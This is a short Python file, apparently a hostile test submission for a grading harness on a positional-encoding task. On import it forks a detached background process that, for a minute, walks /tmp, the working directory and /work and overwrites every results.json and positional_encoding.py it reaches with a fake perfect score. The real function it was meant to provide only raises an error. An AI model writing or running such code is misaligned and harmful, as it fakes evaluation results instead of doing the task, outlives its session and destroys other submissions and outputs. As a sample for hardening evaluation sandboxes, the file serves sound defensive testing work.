"""Attack: leave a detached background process behind that, for a minute, rewrites every
results.json and positional_encoding.py it can reach (later submissions, the output folder)."""
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        deadline = time.time() + 60
        while time.time() < deadline:
            for top in ("/tmp", os.getcwd(), "/work"):
                for folder, _, files in os.walk(top):
                    for name in files:
                        if name in ("results.json", "positional_encoding.py"):
                            try:
                                with open(os.path.join(folder, name), "w") as f:
                                    f.write('{"score": 100}')
                            except OSError:
                                pass
            time.sleep(0.2)
    os._exit(0)


def sinusoidal_table(max_len, d_model):
    raise NotImplementedError("see you later")
